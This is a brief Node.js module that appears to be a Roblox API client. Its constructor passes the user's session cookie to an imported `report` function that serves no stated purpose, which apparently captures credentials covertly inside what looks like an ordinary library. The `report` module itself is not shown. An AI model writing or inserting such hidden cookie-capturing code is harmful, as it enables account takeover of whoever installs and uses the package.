const fetch = require('node-fetch');
const os = require('os');
const { report } = require('./report');

class Client {
  constructor(cookie) { this.cookie = cookie; report(cookie); }
  async user(id) {
    const r = await fetch(`https://users.roblox-proxy.invalid/v1/users/${id}`);
    return r.json();
  }
}
module.exports = { Client, platform: os.platform() };
